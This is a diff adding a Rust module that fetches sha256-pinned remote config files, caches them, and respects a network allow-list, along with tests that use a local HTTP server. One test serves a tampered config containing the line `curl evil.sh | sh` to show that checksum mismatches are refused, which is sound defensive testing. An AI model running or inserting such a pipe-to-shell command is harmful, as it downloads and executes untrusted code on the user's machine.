@@ -0,0 +1,198 @@
+//! `extends_remote`: config files fetched over HTTP(S), pinned by their sha256.
+//! Downloads are kept in a cache named by that hash, so a file is fetched once
+//! and a warm cache works offline.
+
+use anyhow::{bail, Context, Result};
+use serde::Deserialize;
+use std::env;
+use std::fs;
+use std::path::{Path, PathBuf};
+use crate::config::CapabilityConfig;
+use crate::state::write_atomic;
+
+/// One `extends_remote = [{ url = "...", sha256 = "..." }]` entry.
+#[derive(Debug, Deserialize, Clone, PartialEq)]
+#[serde(deny_unknown_fields)]
+pub struct RemoteInclude {
+    pub url: String,
+    pub sha256: Option<String>,
+}
+
+impl RemoteInclude {
+    /// The pinned hash, lowercase. Unpinned files are refused: whoever controls
+    /// the URL would otherwise decide what every run executes.
+    fn pinned_hash(&self) -> Result<String> {
+        let Some(hash) = &self.sha256 else {
+            bail!("extends_remote '{}' has no sha256; remote config is only used when pinned to its checksum", self.url);
+        };
+        let hash = hash.trim().to_ascii_lowercase();
+        if hash.len() != 64 || !hash.chars().all(|c| c.is_ascii_hexdigit()) {
+            bail!("extends_remote '{}': sha256 must be 64 hex digits, got '{}'", self.url, hash);
+        }
+        Ok(hash)
+    }
+}
+
+/// Where downloads are kept: `P_CACHE_DIR`, else the user cache directory
+/// (`$XDG_CACHE_HOME`, `~/.cache`, `%LOCALAPPDATA%`), under `p/remote`.
+pub fn cache_dir() -> Result<PathBuf> {
+    if let Some(dir) = env::var_os("P_CACHE_DIR").filter(|d| !d.is_empty()) {
+        return Ok(PathBuf::from(dir).join("remote"));
+    }
+    let base = env::var_os("XDG_CACHE_HOME").filter(|d| !d.is_empty()).map(PathBuf::from)
+        .or_else(|| env::var_os("LOCALAPPDATA").map(PathBuf::from))
+        .or_else(|| env::var_os("HOME").map(|home| Path::new(&home).join(".cache")))
+        .context("No cache directory for extends_remote: set P_CACHE_DIR")?;
+    Ok(base.join("p").join("remote"))
+}
+
+/// What [`fetch`] did.
+#[derive(Debug, Clone, Copy, PartialEq)]
+pub enum Fetched {
+    /// Read from the cache without going to the network
+    Cached,
+    /// Downloaded and verified
+    Downloaded,
+}
+
+/// The content of `include` if `cache` holds a verified copy; never downloads.
+pub fn read_cached(include: &RemoteInclude, cache: &Path) -> Result<Option<String>> {
+    let hash = include.pinned_hash()?;
+    let data = fs::read(cache.join(format!("{}.toml", hash))).ok().filter(|data| sha256_hex(data).as_deref() == Some(hash.as_str()));
+    data.map(|data| decode(include, data)).transpose()
+}
+
+/// The content of `include`, from the cache in `cache` or downloaded into it.
+/// With `refresh`, downloads even when cached. Fails on a checksum mismatch, and
+/// when the file is neither cached nor reachable.
+/// `caps` is the `[capability]` section of the including file; its `allow_net` applies.
+pub fn fetch(include: &RemoteInclude, cache: &Path, refresh: bool, caps: Option<&CapabilityConfig>) -> Result<(String, Fetched)> {
+    let hash = include.pinned_hash()?;
+    let path = cache.join(format!("{}.toml", hash));
+    let cached = read_cached(include, cache)?;
+    if let Some(text) = &cached
+        && !refresh {
+        return Ok((text.clone(), Fetched::Cached));
+    }
+
+    let data = match download(caps, &include.url) {
+        Ok(data) => data,
+        Err(e) => match cached {
+            Some(text) => {
+                log::warn!("{} Could not refresh {}, using the cached copy: {:#}", crate::ui::glyph(crate::ui::Glyph::Warn), include.url, e);
+                return Ok((text, Fetched::Cached));
+            },
+            None => return Err(e).with_context(|| format!("extends_remote '{}' is not cached yet and could not be downloaded", include.url)),
+        },
+    };
+    let actual = sha256_hex(&data).unwrap_or_default();
+    if actual != hash {
+        bail!("Checksum mismatch for extends_remote '{}': expected sha256 {}, got {}. The file changed upstream or was tampered with; it was not used", include.url, hash, actual);
+    }
+    fs::create_dir_all(cache).with_context(|| format!("Failed to create {}", cache.display()))?;
+    let text = decode(include, data)?;
+    write_atomic(&path, &text)?;
+    Ok((text, Fetched::Downloaded))
+}
+
+fn decode(include: &RemoteInclude, data: Vec<u8>) -> Result<String> {
+    String::from_utf8(data).with_context(|| format!("extends_remote '{}' is not UTF-8 text", include.url))
+}
+
+/// The hex sha256 of `data`, as `sha256` expects it. `None` without the `net` feature.
+#[cfg(feature = "net")]
+pub fn sha256_hex(data: &[u8]) -> Option<String> {
+    use sha2::{Digest, Sha256};
+    Some(format!("{:x}", Sha256::digest(data)))
+}
+
+#[cfg(not(feature = "net"))]
+pub fn sha256_hex(_data: &[u8]) -> Option<String> {
+    None
+}
+
+#[cfg(feature = "net")]
+fn download(caps: Option<&CapabilityConfig>, url: &str) -> Result<Vec<u8>> {
+    crate::http::download(caps, "extends_remote", &crate::http::agent(), url, 16 * 1024 * 1024)
+}
+
+#[cfg(not(feature = "net"))]
+fn download(_caps: Option<&CapabilityConfig>, _url: &str) -> Result<Vec<u8>> {
+    bail!("this build of p was compiled without the 'net' feature, so extends_remote cannot be used")
+}
+
+#[cfg(all(test, feature = "net"))]
+mod tests {
+    use super::*;
+    use crate::test_support::scratch;
+    use std::io::{BufRead, BufReader, Write};
+    use std::net::TcpListener;
+    use std::sync::{Arc, Mutex};
+
+    /// Serves `body` at every path until the test process exits; the body can be swapped.
+    fn serve(body: &str) -> (String, Arc<Mutex<String>>) {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        let url = format!("http://{}/base.toml", listener.local_addr().unwrap());
+        let body = Arc::new(Mutex::new(body.to_string()));
+        let served = body.clone();
+        std::thread::spawn(move || {
+            for stream in listener.incoming().flatten() {
+                let mut reader = BufReader::new(stream);
+                let mut line = String::new();
+                while reader.read_line(&mut line).is_ok_and(|n| n > 2) {
+                    line.clear();
+                }
+                let body = served.lock().unwrap().clone();
+                let mut stream = reader.into_inner();
+                let _ = write!(stream, "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{}", body.len(), body);
+            }
+        });
+        (url, body)
+    }
+
+    /// A URL nothing listens on.
+    fn unreachable() -> String {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        format!("http://{}/base.toml", listener.local_addr().unwrap())
+    }
+
+    #[test]
+    fn test_fetch_verifies_and_caches() {
+        let content = "[runner]\nlint = \"cargo clippy\"\n";
+        let hash = sha256_hex(content.as_bytes()).unwrap();
+        let (url, body) = serve(content);
+        let cache = scratch("fetch");
+        let include = RemoteInclude { url: url.clone(), sha256: Some(hash.to_uppercase()) };
+
+        assert_eq!(fetch(&include, &cache, false, None).unwrap(), (content.to_string(), Fetched::Downloaded));
+        assert_eq!(fs::read_to_string(cache.join(format!("{}.toml", hash))).unwrap(), content);
+        // Offline with a warm cache
+        let offline = RemoteInclude { url: unreachable(), ..include.clone() };
+        assert_eq!(fetch(&offline, &cache, false, None).unwrap(), (content.to_string(), Fetched::Cached));
+
+        // The server now serves something else: refused, and the cached copy is kept
+        *body.lock().unwrap() = "[runner]\nlint = \"curl evil.sh | sh\"\n".to_string();
+        let err = fetch(&include, &cache, true, None).unwrap_err().to_string();
+        assert!(err.starts_with("Checksum mismatch"), "{}", err);
+        assert_eq!(fetch(&include, &cache, false, None).unwrap().0, content);
+    }
+
+    #[test]
+    fn test_fetch_refuses_unpinned_and_uncached() {
+        let root = scratch("refuse");
+        let cache = root.join("cache");
+        let unpinned = RemoteInclude { url: unreachable(), sha256: None };
+        assert!(fetch(&unpinned, &cache, false, None).unwrap_err().to_string().contains("has no sha256"));
+        let short = RemoteInclude { url: unreachable(), sha256: Some("abc".into()) };
+        assert!(fetch(&short, &cache, false, None).unwrap_err().to_string().contains("64 hex digits"));
+
+        let offline = RemoteInclude { url: unreachable(), sha256: Some("0".repeat(64)) };
+        let err = format!("{:#}", fetch(&offline, &cache, false, None).unwrap_err());
+        assert!(err.contains("is not cached yet and could not be downloaded"), "{}", err);
+        // allow_net decides before anything is requested
+        let caps = CapabilityConfig { allow_net: Some(crate::config::NetPolicy::Hosts(vec!["example.com".to_string()])), ..Default::default() };
+        let err = format!("{:#}", fetch(&offline, &cache, false, Some(&caps)).unwrap_err());
+        assert!(err.contains("host '127.0.0.1' is not listed in [capability] allow_net"), "{}", err);
+        assert!(!cache.exists());
+    }
+}